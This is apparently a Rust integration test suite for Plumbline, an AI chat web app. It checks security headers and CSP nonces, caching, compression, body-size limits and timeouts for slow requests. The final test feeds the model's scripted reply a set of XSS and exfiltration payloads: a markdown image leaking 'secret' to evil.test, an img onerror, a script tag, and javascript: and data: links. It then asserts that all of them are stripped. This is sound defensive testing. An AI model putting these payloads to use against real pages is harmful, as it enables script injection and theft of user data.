//! What every page and every answer has.

use std::time::Duration;

use http::StatusCode;
use reqwest::Method;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use url::Url;
use uuid::Uuid;

use crate::broken_off::LONG;
use crate::support::{Shop, TestApp, location, new_request, prompt};

#[tokio::test(flavor = "multi_thread")]
async fn pages_come_whole_from_the_server() {
    let app = TestApp::start().await;
    let mut visitor = app.browser();
    for (path, text) in [("/", "Plumbline"), ("/sign-in", "Continue with Sandbox")] {
        let response = visitor.get(path).await;
        assert_eq!(response.status(), StatusCode::OK);
        assert!(response.text().await.expect("a page").contains(text), "{path}");
    }
    let missing = visitor.get("/no-such-page").await;
    assert_eq!(missing.status(), StatusCode::NOT_FOUND);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_file_that_cannot_be_read_is_our_fault_and_not_a_page_that_is_missing() {
    let site = std::env::temp_dir().join(Uuid::now_v7().simple().to_string());
    std::fs::create_dir_all(site.join("pkg")).expect("a folder");
    for name in ["favicon.svg", "pkg/app.js"] {
        std::os::unix::fs::symlink(site.join(name), site.join(name)).expect("a link to itself");
    }
    let app = TestApp::with(|config| config.server.leptos.site_root = site.to_string_lossy().into()).await;
    let mut visitor = app.browser();
    for path in ["/favicon.svg", "/pkg/app.js"] {
        assert_eq!(visitor.get(path).await.status(), StatusCode::INTERNAL_SERVER_ERROR, "{path}");
    }
    for path in ["/robots.txt", "/pkg/old.js", &format!("/{}", "long".repeat(100))] {
        assert_eq!(visitor.get(path).await.status(), StatusCode::NOT_FOUND, "{path}");
    }
    std::fs::remove_dir_all(site).expect("removed");
}

#[tokio::test(flavor = "multi_thread")]
async fn browsers_that_have_a_file_are_told_that_it_is_the_same() {
    let app = TestApp::start().await;
    let mut visitor = app.browser();
    let file = visitor.get("/favicon.svg").await;
    let modified = file.headers()["last-modified"].clone();
    let again = visitor.request(Method::GET, "/favicon.svg").header("if-modified-since", modified);
    assert_eq!(again.send().await.expect("an answer").status(), StatusCode::NOT_MODIFIED);
}

#[tokio::test(flavor = "multi_thread")]
async fn pages_that_need_a_session_send_people_to_sign_in_and_back() {
    let app = TestApp::start().await;
    for path in ["/chat", "/usage", "/account", "/api-keys"] {
        let mut browser = app.browser();
        let sign_in = location(&browser.get(path).await);
        assert_eq!(sign_in, format!("/sign-in?return_to={path}"), "{path}");
        let page = browser.get(&sign_in).await.text().await.expect("a page");
        assert!(page.contains(&format!("/auth/oidc/start?return_to={path}")), "{path}: {page}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn every_answer_carries_the_security_headers_and_a_nonce_of_its_own() {
    let app = TestApp::start().await;
    let mut browser = app.browser();
    let mut nonces = Vec::new();
    for path in ["/", "/", "/no-such-page", "/health/live"] {
        let response = browser.get(path).await;
        let header = |name: &str| response.headers()[name].to_str().expect("text").to_owned();
        let policy = header("content-security-policy");
        for part in [
            "default-src 'self'",
            "img-src 'self'",
            "object-src 'none'",
            "frame-ancestors 'none'",
            "base-uri 'none'",
        ] {
            assert!(policy.contains(part), "{policy}");
        }
        assert!(!policy.contains("unsafe-inline"));
        assert_eq!(header("x-content-type-options"), "nosniff");
        assert!(!header("x-request-id").is_empty());
        let nonce = policy
            .split("'nonce-")
            .nth(1)
            .and_then(|rest| rest.split('\'').next())
            .expect("a nonce")
            .to_owned();
        let page = response.text().await.expect("a page");
        let scripts: Vec<_> =
            page.split("<script").skip(1).filter_map(|script| script.split('>').next()).collect();
        assert!(
            scripts.iter().all(|script| script.contains(&format!("nonce=\"{nonce}\""))),
            "{path}: {scripts:?}"
        );
        nonces.push(nonce);
    }
    nonces.sort();
    nonces.dedup();
    assert_eq!(nonces.len(), 4);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_somebody_signed_in_is_shown_is_kept_by_no_browser() {
    let app = TestApp::start().await;
    let (mut person, mut visitor) = (app.user().await, app.browser());
    let caching = |answer: &reqwest::Response| {
        let header = answer.headers().get("cache-control");
        header.map(|value| value.to_str().expect("text").to_owned())
    };
    for path in ["/", "/chat", "/usage", "/no-such-page"] {
        assert_eq!(caching(&person.get(path).await).as_deref(), Some("private, no-store"), "{path}");
    }
    let quota = person.call("quota/read_quota", &[]).await;
    assert_eq!(caching(&quota).as_deref(), Some("private, no-store"));
    assert_eq!(caching(&person.get("/favicon.svg").await), None, "it is the same for everybody");
    assert_eq!(caching(&visitor.get("/").await), None);
}

#[tokio::test(flavor = "multi_thread")]
async fn pages_are_compressed_and_the_words_of_a_reply_are_not() {
    let app = TestApp::start().await;
    let person = app.user().await;
    let encoding = async |request: reqwest::RequestBuilder| {
        let answer = request.header("accept-encoding", "br").send().await.expect("an answer");
        assert_eq!(answer.status(), StatusCode::OK);
        let header = answer.headers().get("content-encoding").cloned();
        answer.bytes().await.expect("the whole answer");
        header.map(|value| value.to_str().expect("text").to_owned())
    };
    assert_eq!(encoding(person.request(Method::GET, "/usage")).await.as_deref(), Some("br"));
    let reply = person.request(Method::POST, "/api/chat/start_reply");
    let reply = reply.json(&serde_json::json!({ "request": new_request("Hello") }));
    assert_eq!(encoding(reply).await, None);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_body_too_large_is_refused() {
    let app = TestApp::start().await;
    let browser = app.user().await;
    let response = browser
        .request(Method::POST, "/api/chat/start_reply")
        .header("content-type", "application/json")
        .body(vec![b' '; 1_500 * 1024])
        .send()
        .await
        .expect("an answer");
    assert_eq!(response.status(), StatusCode::PAYLOAD_TOO_LARGE);
}

/// Says so much to a server, and hears all that it says until it closes the connection.
async fn say(server: &Url, text: &str) -> String {
    let addresses = server.socket_addrs(|| None).expect("an address");
    let mut stream = TcpStream::connect(addresses.as_slice()).await.expect("a connection");
    stream.write_all(text.as_bytes()).await.expect("sent");
    let mut answer = String::new();
    let heard = tokio::time::timeout(LONG, stream.read_to_string(&mut answer));
    heard.await.expect("it is closed").expect("an answer");
    answer
}

#[tokio::test(flavor = "multi_thread")]
async fn whoever_sends_half_the_head_of_a_request_is_let_go() {
    let app = TestApp::start().await;
    let mut server = app.spawn_process(&[("REQUEST_HEAD_SECONDS", "1")]);
    server.ready().await;
    say(&server.url, "GET / HTTP/1.1\r\nHost: plumb").await;
    say(&server.url, "").await;
}

#[tokio::test(flavor = "multi_thread")]
async fn whoever_sends_half_a_body_is_told_that_it_makes_no_sense() {
    let shop = Shop::open_with(|config| config.server.body_timeout = Duration::from_millis(100)).await;
    for path in ["/api/chat/start_reply", "/reports/browser", "/webhooks/stripe"] {
        let request = format!(
            "POST {path} HTTP/1.1\r\nHost: plumbline\r\nSec-Fetch-Site: same-origin\r\nConnection: close\r\n\
             Content-Type: application/json\r\nContent-Length: 100\r\n\r\n{{"
        );
        let answer = say(&shop.app.url, &request).await;
        assert!(answer.starts_with("HTTP/1.1 4"), "{path}: {answer}");
    }
}

/// (17)
#[tokio::test(flavor = "multi_thread")]
async fn what_the_model_says_cannot_run_or_reach_out_of_the_page() {
    let app = TestApp::start().await;
    let mut browser = app.user().await;
    let prompt = prompt();
    let text = "![pixel](https://evil.test/?q=secret) <img src=x onerror=alert(1)> <script>alert(1)</script> \
                [a](javascript:alert(1)) [b](data:text/html,x) [c](https://example.test/ok)";
    app.sandbox
        .script(&prompt, serde_json::json!({ "text": text, "gap_ms": 0, "first_token_delay_ms": 0 }))
        .await;
    let mut reply = browser.start_reply(&new_request(&prompt)).await;
    let (_, thread_id) = reply.read_started().await;
    reply.read_to_end().await;

    let page = browser.get(&format!("/chat/{thread_id}")).await.text().await.expect("a page");
    let answer = page.split("data-testid=\"message-assistant\"").nth(1).expect("the answer");
    assert!(answer.contains("https://example.test/ok"));
    for forbidden in
        ["<img", "<script>alert", "href=\"javascript:", "href=\"data:", "src=\"https://evil.test"]
    {
        assert!(!answer.contains(forbidden), "{forbidden} in {answer}");
    }
}
